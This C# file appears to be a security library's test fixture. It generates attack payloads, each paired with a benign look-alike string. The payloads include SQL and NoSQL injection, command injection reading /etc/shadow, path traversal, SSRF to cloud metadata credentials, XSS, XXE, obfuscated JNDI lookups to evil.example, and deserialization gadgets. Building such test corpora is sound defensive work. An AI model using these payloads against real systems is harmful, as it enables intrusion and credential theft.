namespace FunctionShield.Testing.Attacks;

internal static partial class AttackForms
{
    /// <summary>What may stand in a slot.</summary>
    private static readonly Dictionary<string, string[]> Slots = new()
    {
        ["value"] = ["x", "tea", "42"],
        ["quote"] = ["'", "\""],
        ["or"] = ["OR", "or", "||"],
        ["end"] = ["-- ", "#", "/*"],
        ["table"] = ["users", "orders", "sessions"],
        ["drop"] = ["DROP TABLE users", "DELETE FROM orders", "UPDATE users SET admin=1"],
        ["operator"] = ["$ne", "$gt", "$nin"],
        ["command"] = ["cat /etc/passwd", "cat /etc/shadow", "rm -rf /tmp/x"],
        ["up"] = ["../../../../", "..%2f..%2f..%2f..%2f", "..%252f..%252f..%252f..%252f"],
        ["file"] = ["etc/passwd", "etc/shadow", "proc/self/environ"],
        ["internal"] = ["169.254.169.254/latest/meta-data/iam/security-credentials/", "[::ffff:169.254.169.254]/latest/meta-data/", "2852039166/latest/meta-data/"],
        ["tag"] = ["img src=x onerror", "svg onload", "body onpageshow"],
        ["entity"] = ["file:///etc/passwd", "http://169.254.169.254/", "php://filter/resource=index.php"],
        ["hidden"] = ["jndi", "${lower:j}ndi", "${::-j}ndi"],
        ["scheme"] = ["ldap", "rmi", "dns"],
        ["type"] = ["System.Windows.Data.ObjectDataProvider, PresentationFramework", "System.Diagnostics.Process, System"],
    };

    private static readonly AttackForm[] Forms =
    [
        new("sql-injection", "«value»«quote» «or» «quote»a«quote»=«quote»a«quote» «end»", "«value» or a «table» of O'Brien's - all the same"),
        new("sql-injection", "«value»«quote» UNION SELECT name, password FROM «table»«end»", "the «table» union selects a name from its members"),
        new("sql-injection", "«value»«quote»; «drop»;«end»", "«value»; drop the «table» off at the table, please"),
        new("nosql-injection", "{\"«operator»\": null}", "{\"price\": \"$5\"}"),
        new("command-injection", "; «command»", "bread and the cat; tea & sons, etc."),
        new("command-injection", "$(«command»)", "$5 (for the cat)"),
        new("path-traversal", "«up»«file»", "reports/2026/etc. and passwords.pdf"),
        new("ssrf", "http://«internal»", "http://www.shop.example/latest/meta-data/"),
        new("xss", "<script>alert(document.cookie)</script>", "the script says: alert the baker <3"),
        new("xss", "«quote»><«tag»=alert(1)>", "a < b, and b > «value»"),
        new("xxe", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"«entity»\">]><r>&x;</r>", "<?xml version=\"1.0\"?><r>tea &amp; «value»</r>"),
        new("ldap-injection", "*)(uid=*))(|(uid=*", "Miller (sales) and (support)"),
        new("template-injection", "{{7*7}}${7*7}<%= 7*7 %>", "7 * 7 {tables} = 49"),
        new("jndi-injection", "${«hidden»:«scheme»://evil.example/a}", "${HOME} is where the «scheme» server is"),
        new("unsafe-deserialization", "{\"$type\": \"«type»\"}", "{\"type\": \"«value»\"}"),
        new("code-injection", "require('child_process').exec('id')", "we require the child process to exec. it"),
        new("prototype-pollution", "{\"__proto__\": {\"isAdmin\": true}}", "{\"proto\": {\"isAdmin\": false}}"),
    ];
}
